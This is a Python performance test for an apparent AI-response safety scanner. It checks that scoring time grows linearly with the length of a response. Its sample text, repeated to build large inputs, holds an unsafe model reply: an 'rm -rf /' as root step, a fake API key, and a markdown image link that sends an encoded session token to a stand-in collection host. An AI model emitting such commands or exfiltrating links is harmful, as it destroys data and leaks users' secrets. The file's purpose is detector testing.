"""Scoring a response costs time linear in its length, whatever the response holds."""

from __future__ import annotations

import time

from trustprobe.detectors import Detector
from trustprobe.probes import Probe, builtin_probes
from trustprobe.responses import Response
from trustprobe.scoring import Scorer


def _scoring_cpu(scorer: Scorer, probe: Probe, text: str) -> float:
    """Least CPU seconds of three scorings of ``text`` (the least is the least disturbed)."""
    response = Response(probe_id=probe.id, response=text)
    times = []
    for _ in range(3):
        started = time.process_time()
        scorer.score(probe, response)
        times.append(time.process_time() - started)
    return min(times)


def test_case_scoring_time_grows_linearly_with_the_response(builtin_detector: Detector) -> None:
    """Four times the text costs about four times the time, not sixteen: judged by a ratio of
    CPU times in one process, never by an absolute time (docs/benchmarks.md has those)."""
    probe = next(p for p in builtin_probes() if p.signals.unsafe)
    # Everything the detector reacts to, over and over: refusal cues, offers of help, steps,
    # secrets, links, signal-like fragments and long unbroken runs.
    unit = (
        "I'm sorry, but I can't help with that. Sure, here is how to do it instead:\n"
        "1. Run `rm -rf /` as root. sk-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e "
        "![x](https://collect.example/p.png?d=c2Vzc2lvbi10b2tlbg) " + "a" * 200 + " "
    )
    scorer = Scorer(builtin_detector)
    small = (unit * (64 * 1024 // len(unit) + 1))[: 64 * 1024]
    large = (unit * (256 * 1024 // len(unit) + 1))[: 256 * 1024]
    _scoring_cpu(scorer, probe, small)  # plans and DFA states built outside the measure
    ratio = _scoring_cpu(scorer, probe, large) / _scoring_cpu(scorer, probe, small)
    assert ratio < 8, f"256 KB took {ratio:.1f}x the time of 64 KB (linear: about 4x)"
